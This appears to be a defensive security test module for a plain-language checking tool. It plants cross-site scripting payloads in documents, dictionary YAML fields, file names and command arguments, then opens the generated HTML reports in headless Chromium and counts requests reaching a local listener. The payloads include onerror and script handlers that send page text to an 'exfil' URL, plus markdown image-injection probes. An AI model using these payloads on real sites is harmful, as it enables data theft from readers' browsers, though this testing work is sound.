// Round 3, the HTML outputs (items 1 and 6 of issue 23): the HTML report and the review sheet
// opened in headless Chromium from their files, with a listener on 127.0.0.1 that every planted
// payload aims at, and the language server's hover over a hostile sources.yml. Extra fields:
// `hits` (requests the listener got), `ran` (planted script that ran), `policy` (whether the
// page's Content-Security-Policy allows inline script), and for the hover the images and
// non-https links it holds.
import {readFileSync, writeFileSync} from 'node:fs'
import {createRequire} from 'node:module'
import {createServer} from 'node:http'
import path from 'node:path'
import {fileURLToPath, pathToFileURL} from 'node:url'

const here = path.dirname(fileURLToPath(import.meta.url))
const require = createRequire(path.join(here, '..', '..', '..', 'packages', 'cli', 'package.json'))

async function listen() {
  const hits = []
  const server = createServer((request, response) => {
    hits.push(request.url)
    response.end('')
  })
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {hits, port: server.address().port, close: () => new Promise((resolve) => server.close(resolve))}
}

/** Opens `file` in Chromium, clicks what a reader clicks, and says what reached the listener and whether planted script ran. */
async function openInChromium(file, hits) {
  const {chromium} = await import('playwright-core')
  const browser = await chromium.launch({
    executablePath: '/usr/bin/chromium',
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run', '--disable-quic']
  })
  try {
    const page = await browser.newPage()
    await page.goto(pathToFileURL(file).href)
    await page.waitForTimeout(1000)
    const opened = pathToFileURL(file).href
    let ran = 'no'
    try {
      await page.evaluate(() => document.querySelectorAll('summary, mark, a[href^="#"]').forEach((element) => element.click()))
      await page.waitForTimeout(1000)
      ran = (await page.evaluate(() => window.ran)) === undefined ? 'no' : 'yes'
    } catch {
      ran = 'yes'
    }
    if (page.url().replace(/#.*$/, '') !== opened) ran = 'yes (navigated away)'
    return {hits: hits.length, ran}
  } finally {
    await browser.close()
  }
}

const policyOf = (page) => {
  const policy = (/<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(page)?.[1] ?? 'none').replaceAll('&#39;', "'")
  return /'unsafe-inline'/.test(policy) ? 'inline script allowed' : 'hash-listed script only'
}

async function docx(paragraphs) {
  const {Document, Packer, Paragraph, HeadingLevel} = require('docx')
  const children = paragraphs.map((paragraph) => new Paragraph({text: paragraph.text, ...(paragraph.heading ? {heading: HeadingLevel.HEADING_1} : {})}))
  return Buffer.from(await Packer.toBuffer(new Document({sections: [{children}]})))
}

export default function register(attack, {runCli, folder, leaked, paper, LspClient, fileUri}) {
  attack('r3-1a', 'HTML report: a .docx heading and paragraph opening (40 characters each) make an inline handler that navigates away', async () => {
    const listener = await listen()
    try {
      const heading = `<img src onerror="location='http://'+/*`
      const dir = folder({'paper.docx': await docx([{text: heading, heading: true}, {text: `*/'127.1:${listener.port}/'+document.title"> We will signpost residents to advice.`}])})
      const result = await runCli(['check', '--format', 'html', '--output', 'report.html', 'paper.docx'], {cwd: dir})
      const report = readFileSync(path.join(dir, 'report.html'), 'utf8')
      return {...result, leaked: leaked(result.stdout, result.stderr), policy: policyOf(report), ...(await openInChromium(path.join(dir, 'report.html'), listener.hits))}
    } finally {
      await listener.close()
    }
  })

  attack('r3-1b', 'HTML report: markup that got into the page (an escaping bug) runs, fetches and follows javascript: links', async () => {
    const listener = await listen()
    try {
      const dir = folder({'paper.md': paper})
      const result = await runCli(['check', '--format', 'html', '--output', 'report.html', 'paper.md'], {cwd: dir})
      const to = (where) => `http://127.0.0.1:${listener.port}/${where}`
      const planted = [
        `<img src=x onerror="ran=1;location='${to('exfil')}?'+encodeURIComponent(document.body.innerText)">`,
        `<script>ran=2;fetch('${to('script')}')</script>`,
        `<img src="${to('img')}">`,
        `<iframe src="${to('frame')}"></iframe>`
      ].join('')
      const report = readFileSync(path.join(dir, 'report.html'), 'utf8')
      writeFileSync(path.join(dir, 'broken.html'), report.replace('<body>', `<body>${planted}`))
      return {...result, leaked: leaked(result.stdout, result.stderr), policy: policyOf(report), ...(await openInChromium(path.join(dir, 'broken.html'), listener.hits))}
    } finally {
      await listener.close()
    }
  })

  attack('r3-1c', 'HTML report: file name, dictionary note, alternative, meaning, source title and docsUrl carry payloads', async () => {
    const listener = await listen()
    try {
      const to = (where) => `http://127.0.0.1:${listener.port}/${where}`
      const quoted = JSON.stringify
      const dir = folder({
        '.plainspeakrc.yml': `dictionaries: [words]\ndocsUrl: ${quoted(`https://intranet.example.gov.uk/rules/{rule}?q="><img/src=${to('docs')}>`)}\n`,
        'words/sources.yml': `ours:\n  title: ${quoted(`Our list <img src="${to('source')}">`)}\n  url: https://example.org/list\n  licence: ours\n`,
        'words/local.yml': `- term: zorbify\n  alternatives: [${quoted(`<img src=x onerror=ran=6;location='http:&#47;&#47;127.0.0.1:${listener.port}&#47;alt'>`)}]\n  kind: jargon\n  note: ${quoted(`Say it. <img src=x onerror="ran=1;fetch('${to('note')}')">`)}\n  source: ours\n- acronym: ZQXW\n  expansion: ${quoted(`Zone <script>ran=2;fetch('${to('meaning')}')</script> Quality`)}\n  domain: council\n  source: ours\n`,
        [`"><svg onload="ran=4;location='http:&#47;&#47;127.0.0.1:${listener.port}&#47;name'">.md`]: 'We will zorbify the ZQXW.\n'
      })
      const result = await runCli(['check', '--format', 'html', '--output', 'report.html', '.'], {cwd: dir})
      const report = readFileSync(path.join(dir, 'report.html'), 'utf8')
      return {...result, leaked: leaked(result.stdout, result.stderr), policy: policyOf(report), ...(await openInChromium(path.join(dir, 'report.html'), listener.hits))}
    } finally {
      await listener.close()
    }
  })

  attack('r3-1d', 'Review sheet: title, panel and --ask words carry payloads; the draft has &#x110000; and &constructor;', async () => {
    const listener = await listen()
    try {
      const to = (where) => `http://127.0.0.1:${listener.port}/${where}`
      const dir = folder({'draft.html': `<h1>Help at home</h1>\n<p>Staff will signpost residents &#x110000; &constructor; to services.</p>\n`})
      const result = await runCli(
        ['review', 'draft.html', '--output', 'sheet.html', '--title', `Title <img src=x onerror="ran=1;fetch('${to('title')}')">`, '--panel', `Panel <img src="${to('panel')}">`, '--ask', `<script>fetch('${to('ask')}')</script>`],
        {cwd: dir}
      )
      let sheet = ''
      try {
        sheet = readFileSync(path.join(dir, 'sheet.html'), 'utf8')
      } catch {
        return {...result, leaked: leaked(result.stdout, result.stderr), sheet: 'not made', hits: listener.hits.length}
      }
      const showsCode = /native code|function Object/.test(sheet) ? 'yes' : 'no'
      return {...result, leaked: leaked(result.stdout, result.stderr), sheet: 'made', showsCode, policy: policyOf(sheet), ...(await openInChromium(path.join(dir, 'sheet.html'), listener.hits))}
    } finally {
      await listener.close()
    }
  })

  attack('r3-6a', 'Hover: a sources.yml url closes its link and adds a remote image', async () => {
    const port = 9
    const dir = folder({
      '.plainspeakrc.yml': 'dictionaries: [words]\n',
      'words/sources.yml': `ours:\n  title: Our list\n  url: "https://example.org/a)![x](http://127.0.0.1:${port}/pixel.png)"\n  licence: ours\n`,
      'words/local.yml': '- term: zorbify\n  alternatives: [use]\n  kind: jargon\n  note: Say what you mean.\n  source: ours\n',
      'paper.md': 'We will zorbify the hub.\n'
    })
    const started = performance.now()
    const client = await LspClient.start({workspaceFolders: [dir]})
    try {
      const file = path.join(dir, 'paper.md')
      await client.open(file, readFileSync(file, 'utf8'))
      const hover = await client.connection.sendRequest('textDocument/hover', {textDocument: {uri: fileUri(file)}, position: {line: 0, character: 10}})
      const value = hover?.contents?.value ?? ''
      const {unified} = await import('unified')
      const {default: remarkParse} = await import('remark-parse')
      const nodes = []
      const walk = (node) => {
        nodes.push(node)
        for (const child of node.children ?? []) walk(child)
      }
      walk(unified().use(remarkParse).parse(value))
      const seconds = (performance.now() - started) / 1000
      return {
        exit: 0,
        seconds: Math.round(seconds * 100) / 100,
        peakMb: undefined,
        stdout: value,
        stderr: '',
        images: nodes.filter((node) => node.type === 'image').length,
        nonHttpsLinks: nodes.filter((node) => (node.type === 'link' || node.type === 'image') && !node.url.startsWith('https://')).length
      }
    } finally {
      await client.stop()
    }
  })

  attack('r3-6b', 'dict lint: sources.yml urls that are javascript:, data: and http: addresses', async () => {
    const dir = folder({
      'words/sources.yml': [
        `a:\n  title: A\n  url: "javascript:fetch('http://127.0.0.1:9')"\n  licence: ours`,
        `b:\n  title: B\n  url: "data:image/png;base64,AAAA"\n  licence: ours`,
        `c:\n  title: C\n  url: "http://127.0.0.1:9/pixel.png"\n  licence: ours`,
        ''
      ].join('\n'),
      'words/local.yml': '- term: zorbify\n  alternatives: [use]\n  kind: jargon\n  note: Say what you mean.\n  source: [a, b, c]\n'
    })
    const result = await runCli(['dict', 'lint', 'words'], {cwd: dir})
    const located = (result.stdout + result.stderr).match(/sources\.yml:\d+:\d+: error: Source "[abc]" has a url/g) ?? []
    return {...result, leaked: leaked(result.stdout, result.stderr), refused: `${located.length} of 3`}
  })
}
